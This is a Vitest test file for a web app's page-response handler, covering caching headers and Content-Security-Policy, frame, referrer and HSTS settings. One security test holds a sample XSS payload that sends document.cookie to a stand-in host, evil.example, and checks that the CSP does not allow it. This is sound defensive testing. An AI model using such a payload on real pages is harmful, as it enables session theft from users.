import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import islandLoader from 'astro/runtime/server/astro-island.prebuilt.js';
import loadDirective from 'astro/runtime/client/load.prebuilt.js';
import { THEME_BOOTSTRAP_SCRIPT } from '../../lib/theme-bootstrap-script.ts';
import { OWN_SCRIPT_HASHES } from './own-inline-scripts.ts';
import { finalizePageResponse } from './page-response.ts';

const html = (body: string, headers: Record<string, string> = {}, status = 200) =>
  new Response(body, { status, headers: { 'content-type': 'text/html; charset=utf-8', ...headers } });
const get = (headers: Record<string, string> = {}) => new Request('http://x/en/', { headers });
const env = { FIREBASE_PROJECT_ID: 'demo-nodeyard' };

describe('page caching', () => {
  it('adds a stable ETag and a public Cache-Control to a 200 HTML GET', async () => {
    const first = await finalizePageResponse(get(), html('<p>a</p>'), env);
    const again = await finalizePageResponse(get(), html('<p>a</p>'), env);
    const other = await finalizePageResponse(get(), html('<p>b</p>'), env);
    expect(first.headers.get('cache-control')).toMatch(/^public/);
    expect(first.headers.get('etag')).toMatch(/^W\/".+"$/);
    expect(again.headers.get('etag')).toBe(first.headers.get('etag'));
    expect(other.headers.get('etag')).not.toBe(first.headers.get('etag'));
    expect(await first.text()).toBe('<p>a</p>');
  });

  it('answers 304 with no body to a matching If-None-Match', async () => {
    const { headers } = await finalizePageResponse(get(), html('<p>a</p>'), env);
    const response = await finalizePageResponse(get({ 'if-none-match': headers.get('etag')! }), html('<p>a</p>'), env);
    expect(response.status).toBe(304);
    expect(await response.text()).toBe('');
  });

  it('never caches errors, writes or pages that chose their own Cache-Control', async () => {
    const notFound = await finalizePageResponse(get(), html('x', {}, 404), env);
    expect(notFound.headers.get('etag')).toBeNull();
    const post = await finalizePageResponse(new Request('http://x/', { method: 'POST' }), html('a'), env);
    expect(post.headers.get('etag')).toBeNull();
    const personal = await finalizePageResponse(get(), html('a', { 'cache-control': 'private, no-store' }), env);
    expect(personal.headers.get('cache-control')).toBe('private, no-store');
    expect(personal.headers.get('etag')).toBeNull();
  });
});

describe('page security headers', () => {
  it('allows only the inline scripts we ship, never one that appears in the page', async () => {
    const injected = 'fetch("https://evil.example/?c="+document.cookie)';
    const response = await finalizePageResponse(
      get(),
      html(`<script>${THEME_BOOTSTRAP_SCRIPT}</script><script>${injected}</script><script src="/a.js"></script>`),
      env,
    );
    const csp = response.headers.get('content-security-policy')!;
    const scriptSrc = csp.split('; ').find((directive) => directive.startsWith('script-src '))!;
    const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
    expect(scriptSrc).toContain(hash(THEME_BOOTSTRAP_SCRIPT));
    expect(scriptSrc).toContain(hash(islandLoader));
    expect(scriptSrc).toContain(hash(loadDirective));
    expect(scriptSrc).not.toContain(hash(injected));
    expect(scriptSrc).toBe(`script-src 'self' https://apis.google.com ${OWN_SCRIPT_HASHES.join(' ')}`);
    expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
  });

  it('allows exactly the inline <style> elements of the page by hash; style attributes stay allowed', async () => {
    const style = '.readme{line-height:1.65}';
    const response = await finalizePageResponse(get(), html(`<style is="x">${style}</style><p>a</p>`), env);
    const csp = response.headers.get('content-security-policy')!;
    const hash = `'sha256-${createHash('sha256').update(style).digest('base64')}'`;
    expect(csp).toContain(`style-src 'self' ${hash};`);
    expect(csp).toContain(`style-src-elem 'self' ${hash};`);
    expect(csp).toContain("style-src-attr 'unsafe-inline'");
    expect(csp).not.toMatch(/style-src(-elem)? [^;]*unsafe-inline/);
  });

  it('lets sign-in reach Firebase, and the emulator only when one is configured', async () => {
    const dev = (await finalizePageResponse(get(), html('x'), env)).headers.get('content-security-policy')!;
    expect(dev).toMatch(/connect-src [^;]*https:\/\/identitytoolkit\.googleapis\.com[^;]*http:\/\/127\.0\.0\.1:9099/);
    const prod = (
      await finalizePageResponse(get(), html('x'), {
        FIREBASE_PROJECT_ID: 'acme',
        FIREBASE_API_KEY: 'k',
        FIREBASE_AUTH_DOMAIN: 'login.acme.dev',
      })
    ).headers.get('content-security-policy')!;
    expect(prod).not.toContain('127.0.0.1');
    expect(prod).toContain('frame-src https://login.acme.dev');
  });

  it('lets analytics reach the PostHog host only when a key and host are configured', async () => {
    const csp = async (extra: Record<string, string>) =>
      (await finalizePageResponse(get(), html('x'), { ...env, ...extra })).headers.get('content-security-policy')!;
    const connect = (policy: string) => policy.split('; ').find((d) => d.startsWith('connect-src '))!;
    expect(connect(await csp({}))).not.toContain('posthog');
    expect(connect(await csp({ POSTHOG_HOST: 'https://eu.i.posthog.com' }))).not.toContain('posthog');
    expect(connect(await csp({ POSTHOG_KEY: 'phc_k', POSTHOG_HOST: 'https://eu.i.posthog.com/' }))).toContain(
      ' https://eu.i.posthog.com',
    );
  });

  it("loads images from the site itself only (publishers' images come through /_image)", async () => {
    const csp = (await finalizePageResponse(get(), html('x'), env)).headers.get('content-security-policy')!;
    expect(csp.split('; ')).toContain("img-src 'self' data:");
  });

  it('sets frame, referrer and sniffing policies on every response, HSTS only over TLS', async () => {
    const redirect = await finalizePageResponse(
      get(),
      new Response(null, { status: 302, headers: { location: '/en/' } }),
      env,
    );
    expect(redirect.headers.get('x-frame-options')).toBe('DENY');
    expect(redirect.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
    expect(redirect.headers.get('x-content-type-options')).toBe('nosniff');
    expect(redirect.headers.get('strict-transport-security')).toBeNull();
    const tls = await finalizePageResponse(new Request('https://registry.example/en/'), html('x'), env);
    expect(tls.headers.get('strict-transport-security')).toMatch(/max-age=\d+/);
  });
});
